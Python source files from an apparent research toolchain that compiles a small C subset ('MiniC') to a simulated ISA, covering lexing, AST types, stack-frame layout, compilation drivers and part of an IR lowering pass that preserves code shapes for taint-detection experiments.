def layout_function(func: FuncDef) -> FrameLayout:
    """Assign every local a slot and pick register promotions."""
    layout = FrameLayout()
    address_taken = collect_address_taken(func)

    # Count declarations per name; shadowed names are not promoted.
    decl_counts: Dict[str, int] = {}
    decls_in_order: List[Tuple[LocalDecl, bool]] = []  # (node, top_level)

    def scan(stmt: Stmt, top_level: bool) -> None:
        if isinstance(stmt, Block):
            for inner in stmt.statements:
                scan(inner, top_level)
        elif isinstance(stmt, LocalDecl):
            decl_counts[stmt.name] = decl_counts.get(stmt.name, 0) + 1
            decls_in_order.append((stmt, top_level))
        elif isinstance(stmt, If):
            if stmt.then_branch is not None:
                scan(stmt.then_branch, False)
            if stmt.else_branch is not None:
                scan(stmt.else_branch, False)
        elif isinstance(stmt, While):
            if stmt.body is not None:
                scan(stmt.body, False)
        elif isinstance(stmt, For):
            if stmt.init is not None:
                scan(stmt.init, False)
            if stmt.body is not None:
                scan(stmt.body, False)

    for stmt in func.body.statements:
        scan(stmt, True)
    for param in func.params:
        decl_counts[param.name] = decl_counts.get(param.name, 0) + 1

    available = list(SREGS)

    def promotable(name: str, ctype: CType, is_param: bool) -> bool:
        if not available:
            return False
        if isinstance(ctype, ArrayType):
            return False
        if name in address_taken:
            return False
        if decl_counts.get(name, 0) != 1:
            return False
        if is_param and func.varargs:
            return False  # varargs walk the parameter area in memory
        return True

    # Parameters first: validated-input indices are usually parameters.
    for i, param in enumerate(func.params):
        if promotable(param.name, param.ctype, is_param=True):
            reg = available.pop(0)
            layout.used_sregs.append(reg)
            layout.param_slots[param.name] = Slot(
                kind="sreg", ctype=param.ctype, reg=reg, offset=8 + 4 * i
            )
        else:
            layout.param_slots[param.name] = Slot(
                kind="param", ctype=param.ctype, offset=8 + 4 * i
            )

    cursor = 0
    for node, top_level in decls_in_order:
        ctype = node.ctype
        assert ctype is not None
        if top_level and promotable(node.name, ctype, is_param=False):
            reg = available.pop(0)
            layout.used_sregs.append(reg)
            layout.slots_by_node[id(node)] = Slot(
                kind="sreg", ctype=ctype, reg=reg
            )
        else:
            cursor += align4(ctype.size)
            layout.slots_by_node[id(node)] = Slot(
                kind="frame", ctype=ctype, offset=-cursor
            )
    layout.locals_size = cursor
    return layout


# ---------------------------------------------------------------------------
# static data: globals and string literals (shared emission)
# ---------------------------------------------------------------------------

def global_label(name: str) -> str:
    return f"_g_{name}"


def escape_ascii(data: bytes) -> str:
    """Escape bytes for a ``.ascii`` directive (latin-1 payloads)."""
    return "".join(
        ch if 32 <= ord(ch) < 127 and ch not in '"\\'
        else f"\\x{ord(ch):02x}"
        for ch in data.decode("latin-1")
    )


def global_data_lines(decl: GlobalDecl, label: str) -> List[str]:
    """Data-section lines for one global declaration."""
    ctype = decl.ctype
    init = decl.init
    lines: List[str] = []
    if isinstance(ctype, ArrayType):
        if init is None:
            lines.append(f"{label}: .space {ctype.size}")
        elif isinstance(init, bytes):
            if len(init) > ctype.size:
                raise CompileError(
                    f"initializer too long for {decl.name}", decl.line
                )
            escaped = "".join(f"\\x{b:02x}" for b in init)
            lines.append(f'{label}: .ascii "{escaped}"')
            if ctype.size > len(init):
                lines.append(f".space {ctype.size - len(init)}")
        elif isinstance(init, list):
            if ctype.base.size == 1:
                values = ",".join(str(v & 0xFF) for v in init)
                lines.append(f"{label}: .byte {values}")
                pad = ctype.size - len(init)
            else:
                values = ",".join(str(v) for v in init)
                lines.append(f"{label}: .word {values}")
                pad = ctype.size - 4 * len(init)
            if pad > 0:
                lines.append(f".space {pad}")
        else:
            raise CompileError(
                f"bad array initializer for {decl.name}", decl.line
            )
    elif ctype.size == 1:
        value = init if isinstance(init, int) else 0
        lines.append(f"{label}: .byte {value & 0xFF}")
    else:
        value = init if isinstance(init, int) else 0
        lines.append(f"{label}: .word {value}")
    return lines


class StringPool:
    """Interns string literals into labeled ``.ascii`` data lines.

    Both backends intern per translation unit with the same
    ``_str{prefix}{n}`` label scheme, so the ``-O0`` and ``-O1`` data
    sections carry the same string bytes under the same names.
    """

    def __init__(self, prefix: str = "") -> None:
        self.prefix = prefix
        self._strings: Dict[bytes, str] = {}
        self.data_lines: List[str] = []

    def label(self, data: bytes) -> str:
        label = self._strings.get(data)
        if label is None:
            label = f"_str{self.prefix}{len(self._strings)}"
            self._strings[data] = label
            # Data is emitted NUL-terminated already (parser appends \0),
            # so use .ascii to avoid a second terminator.
            self.data_lines.append(
                f"{label}: .ascii \"{escape_ascii(data)}\""
            )
        return label
