"""Lexer for MiniC, the C subset our toolchain compiles to the simulated ISA.

Token kinds: ``ident``, ``number``, ``string``, ``punct``, ``eof``.
Keywords are returned as ``ident`` tokens; the parser distinguishes them.
Comments (``//`` and ``/* */``) and whitespace are skipped.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

from .errors import CompileError

#: Multi-character punctuators, longest first so maximal munch works.
_PUNCTUATORS = [
    "<<=", ">>=", "...",
    "&&", "||", "==", "!=", "<=", ">=", "<<", ">>",
    "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "++", "--", "->",
    "+", "-", "*", "/", "%", "=", "<", ">", "!", "~", "&", "|", "^",
    "(", ")", "{", "}", "[", "]", ";", ",", "?", ":",
]

_ESCAPES = {
    "n": 10, "t": 9, "r": 13, "0": 0, "\\": 92, "'": 39, '"': 34,
    "a": 7, "b": 8, "f": 12, "v": 11,
}


@dataclass(frozen=True)
class Token:
    """One lexical token."""

    kind: str       # "ident" | "number" | "string" | "punct" | "eof"
    text: str       # raw or canonical text (punct spelling, identifier name)
    value: int = 0  # numeric value for "number" tokens
    line: int = 0
    column: int = 0

    def is_punct(self, spelling: str) -> bool:
        return self.kind == "punct" and self.text == spelling

    def is_ident(self, name: str) -> bool:
        return self.kind == "ident" and self.text == name


def _decode_escape(text: str, index: int, line: int) -> "tuple[int, int]":
    """Decode the escape starting at ``text[index]`` (after the backslash).

    Returns ``(byte_value, next_index)``.
    """
    ch = text[index]
    if ch == "x":
        digits = ""
        index += 1
        while index < len(text) and text[index] in "0123456789abcdefABCDEF":
            digits += text[index]
            index += 1
            if len(digits) == 2:
                break
        if not digits:
            raise CompileError("bad \\x escape", line)
        return int(digits, 16), index
    if ch in _ESCAPES:
        return _ESCAPES[ch], index + 1
    raise CompileError(f"unknown escape \\{ch}", line)


class Lexer:
    """Tokenizes MiniC source text."""

    def __init__(self, source: str) -> None:
        self.source = source
        self.pos = 0
        self.line = 1
        self.column = 1

    def tokens(self) -> List[Token]:
        """Lex the whole input; the list always ends with an ``eof`` token."""
        out: List[Token] = []
        while True:
            token = self._next()
            out.append(token)
            if token.kind == "eof":
                return out

    # ------------------------------------------------------------------

    def _advance(self, count: int = 1) -> None:
        for _ in range(count):
            if self.pos < len(self.source) and self.source[self.pos] == "\n":
                self.line += 1
                self.column = 1
            else:
                self.column += 1
            self.pos += 1

    def _skip_trivia(self) -> None:
        src = self.source
        while self.pos < len(src):
            ch = src[self.pos]
            if ch in " \t\r\n":
                self._advance()
            elif src.startswith("//", self.pos):
                while self.pos < len(src) and src[self.pos] != "\n":
                    self._advance()
            elif src.startswith("/*", self.pos):
                end = src.find("*/", self.pos + 2)
                if end < 0:
                    raise CompileError("unterminated comment", self.line)
                self._advance(end + 2 - self.pos)
            else:
                return

    def _next(self) -> Token:
        self._skip_trivia()
        src = self.source
        if self.pos >= len(src):
            return Token("eof", "", line=self.line, column=self.column)
        line, column = self.line, self.column
        ch = src[self.pos]

        if ch.isalpha() or ch == "_":
            start = self.pos
            while self.pos < len(src) and (
                src[self.pos].isalnum() or src[self.pos] == "_"
            ):
                self._advance()
            return Token("ident", src[start : self.pos], line=line, column=column)

        if ch.isdigit():
            start = self.pos
            if src.startswith("0x", self.pos) or src.startswith("0X", self.pos):
                self._advance(2)
                while self.pos < len(src) and src[self.pos] in (
                    "0123456789abcdefABCDEF"
                ):
                    self._advance()
                value = int(src[start : self.pos], 16)
            else:
                while self.pos < len(src) and src[self.pos].isdigit():
                    self._advance()
                value = int(src[start : self.pos])
            return Token(
                "number", src[start : self.pos], value, line=line, column=column
            )

        if ch == "'":
            self._advance()
            if self.pos >= len(src):
                raise CompileError("unterminated char literal", line)
            if src[self.pos] == "\\":
                self._advance()
                value, next_index = _decode_escape(src, self.pos, line)
                self._advance(next_index - self.pos)
            else:
                value = ord(src[self.pos])
                self._advance()
            if self.pos >= len(src) or src[self.pos] != "'":
                raise CompileError("unterminated char literal", line)
            self._advance()
            return Token("number", f"'{value}'", value, line=line, column=column)

        if ch == '"':
            self._advance()
            data = bytearray()
            while True:
                if self.pos >= len(src):
                    raise CompileError("unterminated string literal", line)
                current = src[self.pos]
                if current == '"':
                    self._advance()
                    break
                if current == "\\":
                    self._advance()
                    value, next_index = _decode_escape(src, self.pos, line)
                    self._advance(next_index - self.pos)
                    data.append(value)
                else:
                    data.append(ord(current))
                    self._advance()
            return Token(
                "string",
                data.decode("latin-1"),
                line=line,
                column=column,
            )

        for punct in _PUNCTUATORS:
            if src.startswith(punct, self.pos):
                self._advance(len(punct))
                return Token("punct", punct, line=line, column=column)

        raise CompileError(f"unexpected character {ch!r}", line, column)


def tokenize(source: str) -> List[Token]:
    """Convenience wrapper: lex ``source`` into a token list."""
    return Lexer(source).tokens()
