"""Types and AST node definitions for MiniC."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Union


# ---------------------------------------------------------------------------
# Types
# ---------------------------------------------------------------------------

class CType:
    """Base class for MiniC types."""

    size = 4

    def is_pointer(self) -> bool:
        return False

    def is_array(self) -> bool:
        return False

    def is_void(self) -> bool:
        return False

    def is_char(self) -> bool:
        return False

    def decayed(self) -> "CType":
        """Array-to-pointer decay; identity for everything else."""
        return self


class IntType(CType):
    size = 4

    def __repr__(self) -> str:
        return "int"

    def __eq__(self, other: object) -> bool:
        return isinstance(other, IntType)

    def __hash__(self) -> int:
        return hash("int")


class CharType(CType):
    size = 1

    def is_char(self) -> bool:
        return True

    def __repr__(self) -> str:
        return "char"

    def __eq__(self, other: object) -> bool:
        return isinstance(other, CharType)

    def __hash__(self) -> int:
        return hash("char")


class VoidType(CType):
    size = 0

    def is_void(self) -> bool:
        return True

    def __repr__(self) -> str:
        return "void"

    def __eq__(self, other: object) -> bool:
        return isinstance(other, VoidType)

    def __hash__(self) -> int:
        return hash("void")


class PointerType(CType):
    size = 4

    def __init__(self, base: CType) -> None:
        self.base = base

    def is_pointer(self) -> bool:
        return True

    def __repr__(self) -> str:
        return f"{self.base!r}*"

    def __eq__(self, other: object) -> bool:
        return isinstance(other, PointerType) and self.base == other.base

    def __hash__(self) -> int:
        return hash(("ptr", self.base))


class ArrayType(CType):
    def __init__(self, base: CType, count: int) -> None:
        self.base = base
        self.count = count

    @property
    def size(self) -> int:  # type: ignore[override]
        return self.base.size * self.count

    def is_array(self) -> bool:
        return True

    def decayed(self) -> CType:
        return PointerType(self.base)

    def __repr__(self) -> str:
        return f"{self.base!r}[{self.count}]"

    def __eq__(self, other: object) -> bool:
        return (
            isinstance(other, ArrayType)
            and self.base == other.base
            and self.count == other.count
        )

    def __hash__(self) -> int:
        return hash(("array", self.base, self.count))


INT = IntType()
CHAR = CharType()
VOID = VoidType()


# ---------------------------------------------------------------------------
# Expressions
# ---------------------------------------------------------------------------

@dataclass
class Expr:
    """Base expression node; ``ctype`` is filled by the code generator."""

    line: int = 0


@dataclass
class IntLiteral(Expr):
    value: int = 0


@dataclass
class StringLiteral(Expr):
    value: bytes = b""


@dataclass
class VarRef(Expr):
    name: str = ""


@dataclass
class Unary(Expr):
    op: str = ""          # "-" "!" "~" "*" "&" "++" "--"
    operand: Optional[Expr] = None
    postfix: bool = False  # for ++/--


@dataclass
class Binary(Expr):
    op: str = ""
    left: Optional[Expr] = None
    right: Optional[Expr] = None


@dataclass
class Assign(Expr):
    op: str = "="          # "=" "+=" "-=" "*=" "/=" "%=" "&=" "|=" "^=" "<<=" ">>="
    target: Optional[Expr] = None
    value: Optional[Expr] = None


@dataclass
class Conditional(Expr):
    condition: Optional[Expr] = None
    then_value: Optional[Expr] = None
    else_value: Optional[Expr] = None


@dataclass
class Call(Expr):
    name: str = ""
    args: List[Expr] = field(default_factory=list)


@dataclass
class Index(Expr):
    base: Optional[Expr] = None
    index: Optional[Expr] = None


@dataclass
class SizeOf(Expr):
    ctype: Optional[CType] = None


# ---------------------------------------------------------------------------
# Statements
# ---------------------------------------------------------------------------

@dataclass
class Stmt:
    line: int = 0


@dataclass
class ExprStmt(Stmt):
    expr: Optional[Expr] = None


@dataclass
class LocalDecl(Stmt):
    name: str = ""
    ctype: Optional[CType] = None
    init: Optional[Expr] = None


@dataclass
class Block(Stmt):
    statements: List[Stmt] = field(default_factory=list)


@dataclass
class If(Stmt):
    condition: Optional[Expr] = None
    then_branch: Optional[Stmt] = None
    else_branch: Optional[Stmt] = None


@dataclass
class While(Stmt):
    condition: Optional[Expr] = None
    body: Optional[Stmt] = None


@dataclass
class For(Stmt):
    init: Optional[Stmt] = None
    condition: Optional[Expr] = None
    step: Optional[Expr] = None
    body: Optional[Stmt] = None


@dataclass
class Return(Stmt):
    value: Optional[Expr] = None


@dataclass
class Break(Stmt):
    pass


@dataclass
class Continue(Stmt):
    pass


# ---------------------------------------------------------------------------
# Top level
# ---------------------------------------------------------------------------

@dataclass
class Param:
    name: str
    ctype: CType


@dataclass
class FuncDef:
    name: str
    return_type: CType
    params: List[Param]
    varargs: bool
    body: Block
    line: int = 0


@dataclass
class GlobalDecl:
    name: str
    ctype: CType
    #: Initializer: an int, bytes (for char arrays from string literals),
    #: a list of ints (for arrays), or None.
    init: Union[int, bytes, List[int], str, None] = None
    line: int = 0


@dataclass
class TranslationUnit:
    functions: List[FuncDef] = field(default_factory=list)
    globals: List[GlobalDecl] = field(default_factory=list)
