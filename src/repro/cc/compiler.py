"""MiniC compilation driver: source text -> assembly text."""

from __future__ import annotations

from typing import List, Sequence, Tuple

from .codegen import generate
from .errors import CompileError
from .parser import parse


def compile_minic(source: str, prefix: str = "") -> str:
    """Compile one MiniC translation unit to assembly.

    ``prefix`` namespaces compiler-internal labels (string literals, control
    flow) so several units can be concatenated into one assembly file.
    """
    unit = parse(source)
    return generate(unit, prefix)


def compile_units(units: Sequence[Tuple[str, str]]) -> str:
    """Compile ``(name, source)`` units and concatenate their assembly."""
    parts: List[str] = []
    for name, source in units:
        try:
            parts.append(compile_minic(source, prefix=f"{name}_"))
        except CompileError as exc:
            raise CompileError(f"in unit {name!r}: {exc}") from exc
    return "\n".join(parts)
