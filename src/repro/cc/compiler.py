"""MiniC compilation driver: source text -> assembly text."""

from __future__ import annotations

from typing import List, Sequence, Tuple

from .codegen import generate
from .errors import CompileError
from .parser import parse
from .pipeline import generate_optimized


def compile_minic(source: str, prefix: str = "", opt_level: int = 0) -> str:
    """Compile one MiniC translation unit to assembly.

    ``prefix`` namespaces compiler-internal labels (string literals, control
    flow) so several units can be concatenated into one assembly file.
    ``opt_level`` selects the backend: 0 is the legacy single-pass
    generator (byte-stable, the differential oracle), 1 is the IR pipeline
    (lower -> passes -> linear-scan regalloc -> emit).
    """
    unit = parse(source)
    if opt_level >= 1:
        return generate_optimized(unit, prefix)
    return generate(unit, prefix)


def compile_units(
    units: Sequence[Tuple[str, str]], opt_level: int = 0
) -> str:
    """Compile ``(name, source)`` units and concatenate their assembly."""
    parts: List[str] = []
    for name, source in units:
        try:
            parts.append(
                compile_minic(source, prefix=f"{name}_", opt_level=opt_level)
            )
        except CompileError as exc:
            # Preserve the structured location: re-raise with the original
            # line/column instead of flattening them to 0 (which also
            # double-appended " at line N" through the rendered message).
            raise CompileError(
                f"in unit {name!r}: {exc.raw_message}",
                exc.line,
                exc.column,
            ) from exc
    return "\n".join(parts)
