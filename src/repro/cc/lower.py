"""AST -> IR lowering for the MiniC ``-O1`` pipeline.

The lowering mirrors the legacy backend's *code shapes* (not its register
discipline) so that detection verdicts stay identical across ``-O0`` and
``-O1``:

* comparisons are lowered onto the variable's home value — a promoted
  scalar is a pinned ``$s`` temp used directly as the compare operand, so
  the hardware compare-untaint rule validates the variable itself;
* ``==``/``!=`` in branch position become ``beq``/``bne`` (untaint both
  operands); relational ops become ``slt``/``sltu`` + ``bnez``/``beqz``
  exactly like the legacy generator;
* call arguments are evaluated right-to-left (the legacy push order), and
  every observable side effect sequence (compound assigns, ++/--, short
  circuits) keeps the legacy evaluation order;
* char assignment semantics match: a register char truncates through
  ``andi .. 0xff`` on store, a memory char truncates through ``sb``, and
  the *expression value* of a memory char assignment stays untruncated.

Frame geometry comes from :mod:`repro.cc.frame`, shared with ``-O0``, so
local buffers keep the exact Figure 2 stack-smash offsets.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple, Union

from .ast_nodes import (
    ArrayType,
    Assign,
    Binary,
    Block,
    Break,
    CHAR,
    CType,
    Call,
    Conditional,
    Continue,
    Expr,
    ExprStmt,
    For,
    FuncDef,
    If,
    INT,
    Index,
    IntLiteral,
    LocalDecl,
    PointerType,
    Return,
    SizeOf,
    Stmt,
    StringLiteral,
    TranslationUnit,
    Unary,
    VarRef,
    While,
)
from .errors import CompileError
from .frame import Slot, StringPool, layout_function
from .ir import (
    BasicBlock,
    BinOp,
    Branch,
    CallOp,
    Copy,
    IRFunction,
    Jump,
    Load,
    LoadAddr,
    Ret,
    Store,
    Temp,
    Value,
)

_COMPARISON_OPS = frozenset({"<", ">", "<=", ">=", "==", "!="})

_COMPOUND_BASE = {
    "+=": "+", "-=": "-", "*=": "*", "/=": "/", "%=": "%",
    "&=": "&", "|=": "|", "^=": "^", "<<=": "<<", ">>=": ">>",
}


class _Binding:
    """Where a name lives inside the function being lowered."""

    __slots__ = ("kind", "ctype", "temp", "offset", "label")

    def __init__(
        self,
        kind: str,                      # "sreg" | "frame" | "global"
        ctype: CType,
        temp: Optional[Temp] = None,    # sreg: pinned home temp
        offset: int = 0,                # frame: $fp offset
        label: str = "",                # global: data label
    ) -> None:
        self.kind = kind
        self.ctype = ctype
        self.temp = temp
        self.offset = offset
        self.label = label


class FunctionLowerer:
    """Lowers one function to an :class:`IRFunction` CFG."""

    def __init__(
        self,
        func: FuncDef,
        functions: Dict[str, FuncDef],
        globals_: Dict[str, Slot],
        strings: StringPool,
        prefix: str = "",
    ) -> None:
        self.func = func
        self.functions = functions
        self.globals = globals_
        self.strings = strings
        self.prefix = prefix
        self.layout = layout_function(func)
        self.ir = IRFunction(func, self.layout)
        self._label_counter = 0
        self._scopes: List[Dict[str, _Binding]] = []
        self._loop_stack: List[Tuple[str, str]] = []  # (break, continue)
        self._block: BasicBlock = self.ir.add_block(self._new_label("entry"))

    # ------------------------------------------------------------------
    # plumbing
    # ------------------------------------------------------------------

    def _new_label(self, hint: str) -> str:
        self._label_counter += 1
        return f".L{self.prefix}{self.func.name}_{hint}{self._label_counter}"

    def _emit(self, instr) -> None:
        self._block.instrs.append(instr)

    def _terminate(self, term) -> None:
        if self._block.terminator is None:
            self._block.terminator = term

    def _start_block(self, label: str) -> None:
        """Begin a new block; the previous one falls through if open."""
        if self._block.terminator is None:
            self._block.terminator = Jump(label)
        self._block = self.ir.add_block(label)

    def _lookup(self, name: str, line: int) -> _Binding:
        for scope in reversed(self._scopes):
            if name in scope:
                return scope[name]
        slot = self.globals.get(name)
        if slot is not None:
            return _Binding("global", slot.ctype, label=slot.label)
        raise CompileError(f"undefined variable {name!r}", line)

    def _binding_for_slot(self, slot: Slot, name: str) -> _Binding:
        if slot.kind == "sreg":
            temp = self.ir.new_temp(name, pin=slot.reg)
            return _Binding("sreg", slot.ctype, temp=temp)
        if slot.kind in ("frame", "param"):
            return _Binding("frame", slot.ctype, offset=slot.offset)
        return _Binding("global", slot.ctype, label=slot.label)

    # ------------------------------------------------------------------
    # entry point
    # ------------------------------------------------------------------

    def lower(self) -> IRFunction:
        func = self.func
        scope: Dict[str, _Binding] = {}
        for name, slot in self.layout.param_slots.items():
            binding = self._binding_for_slot(slot, name)
            scope[name] = binding
            if binding.kind == "sreg":
                # Promoted parameters start life as a load from the
                # caller-pushed argument slot into the home register.
                assert binding.temp is not None
                self._emit(Load(binding.temp, self.ir.fp, slot.offset, 4))
        self._scopes = [scope]
        self._lower_block(func.body, new_scope=False)
        self._terminate(Ret(None))
        return self.ir

    # ------------------------------------------------------------------
    # statements
    # ------------------------------------------------------------------

    def _lower_block(self, block: Block, new_scope: bool = True) -> None:
        if new_scope:
            self._scopes.append({})
        for stmt in block.statements:
            self._lower_stmt(stmt)
        if new_scope:
            self._scopes.pop()

    def _lower_stmt(self, stmt: Stmt) -> None:
        if isinstance(stmt, Block):
            self._lower_block(stmt)
        elif isinstance(stmt, ExprStmt):
            if stmt.expr is not None:
                self._lower_expr(stmt.expr)
        elif isinstance(stmt, LocalDecl):
            self._lower_local_decl(stmt)
        elif isinstance(stmt, If):
            self._lower_if(stmt)
        elif isinstance(stmt, While):
            self._lower_while(stmt)
        elif isinstance(stmt, For):
            self._lower_for(stmt)
        elif isinstance(stmt, Return):
            value: Optional[Value] = None
            if stmt.value is not None:
                value, _ = self._lower_expr(stmt.value)
            self._terminate(Ret(value))
            self._block = self.ir.add_block(self._new_label("dead"))
        elif isinstance(stmt, Break):
            if not self._loop_stack:
                raise CompileError("break outside loop", stmt.line)
            self._terminate(Jump(self._loop_stack[-1][0]))
            self._block = self.ir.add_block(self._new_label("dead"))
        elif isinstance(stmt, Continue):
            if not self._loop_stack:
                raise CompileError("continue outside loop", stmt.line)
            self._terminate(Jump(self._loop_stack[-1][1]))
            self._block = self.ir.add_block(self._new_label("dead"))
        else:  # pragma: no cover
            raise CompileError(f"unhandled statement {type(stmt).__name__}")

    def _lower_local_decl(self, stmt: LocalDecl) -> None:
        slot = self.layout.slots_by_node.get(id(stmt))
        if slot is None:
            raise CompileError(
                f"internal: no slot for local {stmt.name!r}", stmt.line
            )
        binding = self._binding_for_slot(slot, stmt.name)
        self._scopes[-1][stmt.name] = binding
        if stmt.init is None:
            return
        if isinstance(slot.ctype, ArrayType):
            raise CompileError(
                "array local initializers are not supported", stmt.line
            )
        value, _ = self._lower_expr(stmt.init)
        self._store_binding(binding, value)

    def _store_binding(self, binding: _Binding, value: Value) -> None:
        """Store ``value`` into a scalar variable (legacy truncation rules)."""
        if binding.kind == "sreg":
            assert binding.temp is not None
            if binding.ctype.size == 1:
                # char variables truncate on assignment even in registers.
                self._emit(BinOp(binding.temp, "&", value, 0xFF))
            else:
                self._emit(Copy(binding.temp, value))
        elif binding.kind == "frame":
            size = 1 if binding.ctype.size == 1 else 4
            self._emit(Store(value, self.ir.fp, binding.offset, size))
        else:  # global
            addr = self.ir.new_temp("gaddr")
            self._emit(LoadAddr(addr, binding.label))
            size = 1 if binding.ctype.size == 1 else 4
            self._emit(Store(value, addr, 0, size))

    def _lower_if(self, stmt: If) -> None:
        then_label = self._new_label("then")
        end_label = self._new_label("endif")
        else_label = (
            self._new_label("else") if stmt.else_branch is not None
            else end_label
        )
        self._lower_cond(stmt.condition, then_label, else_label)
        self._block = self.ir.add_block(then_label)
        if stmt.then_branch is not None:
            self._lower_stmt(stmt.then_branch)
        self._terminate(Jump(end_label))
        if stmt.else_branch is not None:
            self._block = self.ir.add_block(else_label)
            self._lower_stmt(stmt.else_branch)
            self._terminate(Jump(end_label))
        self._block = self.ir.add_block(end_label)

    def _lower_while(self, stmt: While) -> None:
        head = self._new_label("while")
        body = self._new_label("whilebody")
        end = self._new_label("endwhile")
        self._start_block(head)
        self._lower_cond(stmt.condition, body, end)
        self._block = self.ir.add_block(body)
        self._loop_stack.append((end, head))
        if stmt.body is not None:
            self._lower_stmt(stmt.body)
        self._loop_stack.pop()
        self._terminate(Jump(head))
        self._block = self.ir.add_block(end)

    def _lower_for(self, stmt: For) -> None:
        head = self._new_label("for")
        body = self._new_label("forbody")
        step_label = self._new_label("forstep")
        end = self._new_label("endfor")
        self._scopes.append({})
        if stmt.init is not None:
            self._lower_stmt(stmt.init)
        self._start_block(head)
        if stmt.condition is not None:
            self._lower_cond(stmt.condition, body, end)
        else:
            self._terminate(Jump(body))
        self._block = self.ir.add_block(body)
        self._loop_stack.append((end, step_label))
        if stmt.body is not None:
            self._lower_stmt(stmt.body)
        self._loop_stack.pop()
        self._terminate(Jump(step_label))
        self._block = self.ir.add_block(step_label)
        if stmt.step is not None:
            self._lower_expr(stmt.step)
        self._terminate(Jump(head))
        self._block = self.ir.add_block(end)
        self._scopes.pop()

    # ------------------------------------------------------------------
    # conditions (branch form; compare on home values)
    # ------------------------------------------------------------------

    def _lower_cond(
        self, expr: Expr, true_label: str, false_label: str
    ) -> None:
        if isinstance(expr, Unary) and expr.op == "!" and not expr.postfix:
            assert expr.operand is not None
            self._lower_cond(expr.operand, false_label, true_label)
            return
        if isinstance(expr, Binary) and expr.op == "&&":
            assert expr.left is not None and expr.right is not None
            mid = self._new_label("and")
            self._lower_cond(expr.left, mid, false_label)
            self._block = self.ir.add_block(mid)
            self._lower_cond(expr.right, true_label, false_label)
            return
        if isinstance(expr, Binary) and expr.op == "||":
            assert expr.left is not None and expr.right is not None
            mid = self._new_label("or")
            self._lower_cond(expr.left, true_label, mid)
            self._block = self.ir.add_block(mid)
            self._lower_cond(expr.right, true_label, false_label)
            return
        if isinstance(expr, Binary) and expr.op in _COMPARISON_OPS:
            assert expr.left is not None and expr.right is not None
            left, lt = self._lower_expr(expr.left)
            right, rt = self._lower_expr(expr.right)
            op = expr.op
            if op in ("==", "!="):
                # beq/bne untaint both operands -- same shape as legacy.
                branch = "beq" if op == "==" else "bne"
                self._terminate(
                    Branch(branch, left, right, true_label, false_label)
                )
                return
            unsigned = lt.decayed().is_pointer() or rt.decayed().is_pointer()
            slt = "sltu" if unsigned else "slt"
            t = self.ir.new_temp("cmp")
            if op == "<":
                self._emit(BinOp(t, slt, left, right))
                true_when_set = True
            elif op == ">":
                self._emit(BinOp(t, slt, right, left))
                true_when_set = True
            elif op == "<=":
                self._emit(BinOp(t, slt, right, left))
                true_when_set = False
            else:  # ">="
                self._emit(BinOp(t, slt, left, right))
                true_when_set = False
            if true_when_set:
                self._terminate(Branch("bne", t, 0, true_label, false_label))
            else:
                self._terminate(Branch("beq", t, 0, true_label, false_label))
            return
        # Fallback: nonzero test on the value (home temp for promoted vars).
        value, _ = self._lower_expr(expr)
        self._terminate(Branch("bne", value, 0, true_label, false_label))

    # ------------------------------------------------------------------
    # expression types (same best-effort rules as the legacy backend)
    # ------------------------------------------------------------------

    def _expr_type(self, expr: Expr) -> CType:
        if isinstance(expr, IntLiteral):
            return INT
        if isinstance(expr, SizeOf):
            return INT
        if isinstance(expr, StringLiteral):
            return PointerType(CHAR)
        if isinstance(expr, VarRef):
            try:
                return self._lookup(expr.name, expr.line).ctype.decayed()
            except CompileError:
                return INT
        if isinstance(expr, Unary):
            assert expr.operand is not None
            if expr.op == "*":
                base = self._expr_type(expr.operand)
                if isinstance(base, PointerType):
                    return base.base if base.base.size else INT
                return INT
            if expr.op == "&":
                return PointerType(self._expr_type(expr.operand))
            if expr.op in ("++", "--"):
                return self._expr_type(expr.operand)
            return INT
        if isinstance(expr, Binary):
            if expr.op in ("+", "-"):
                assert expr.left is not None and expr.right is not None
                lt = self._expr_type(expr.left)
                rt = self._expr_type(expr.right)
                if lt.is_pointer() and rt.is_pointer():
                    return INT
                if lt.is_pointer():
                    return lt
                if rt.is_pointer():
                    return rt
                return INT
            if expr.op == ",":
                assert expr.right is not None
                return self._expr_type(expr.right)
            return INT
        if isinstance(expr, Assign):
            assert expr.target is not None
            return self._expr_type(expr.target)
        if isinstance(expr, Conditional):
            assert expr.then_value is not None
            return self._expr_type(expr.then_value)
        if isinstance(expr, Call):
            func = self.functions.get(expr.name)
            return func.return_type if func is not None else INT
        if isinstance(expr, Index):
            assert expr.base is not None
            base = self._expr_type(expr.base)
            if isinstance(base, PointerType):
                return base.base
            return INT
        return INT

    def _pointer_scale(self, ctype: CType) -> int:
        decayed = ctype.decayed()
        if isinstance(decayed, PointerType) and decayed.base.size > 1:
            return decayed.base.size
        return 1

    def _scale_value(self, value: Value, scale: int) -> Value:
        shift = {4: 2, 2: 1}.get(scale)
        if shift is None:
            raise CompileError(f"unsupported pointer element size {scale}")
        t = self.ir.new_temp("scaled")
        self._emit(BinOp(t, "<<", value, shift))
        return t

    # ------------------------------------------------------------------
    # lvalues
    # ------------------------------------------------------------------

    def _lower_addr(self, expr: Expr) -> Tuple[Temp, CType]:
        """Compute the address of an lvalue; returns (addr temp, elem type)."""
        if isinstance(expr, VarRef):
            binding = self._lookup(expr.name, expr.line)
            if binding.kind == "sreg":
                raise CompileError(
                    f"cannot take the address of register variable "
                    f"{expr.name!r}",
                    expr.line,
                )
            if binding.kind == "global":
                t = self.ir.new_temp("gaddr")
                self._emit(LoadAddr(t, binding.label))
                return t, binding.ctype
            t = self.ir.new_temp("laddr")
            self._emit(BinOp(t, "+", self.ir.fp, binding.offset))
            return t, binding.ctype
        if isinstance(expr, Unary) and expr.op == "*":
            assert expr.operand is not None
            value, ptype = self._lower_expr(expr.operand)
            addr = self._as_temp(value, "paddr")
            if isinstance(ptype, PointerType) and ptype.base.size:
                return addr, ptype.base
            return addr, INT
        if isinstance(expr, Index):
            assert expr.base is not None and expr.index is not None
            base_value, base_type = self._lower_expr(expr.base)
            if not isinstance(base_type, PointerType):
                base_type = PointerType(INT)
            elem = base_type.base if base_type.base.size else INT
            index_value, _ = self._lower_expr(expr.index)
            if elem.size in (2, 4):
                index_value = self._scale_value(index_value, elem.size)
            addr = self.ir.new_temp("eaddr")
            self._emit(BinOp(addr, "+", base_value, index_value))
            return addr, elem
        raise CompileError(
            f"expression is not an lvalue ({type(expr).__name__})", expr.line
        )

    def _as_temp(self, value: Value, hint: str) -> Temp:
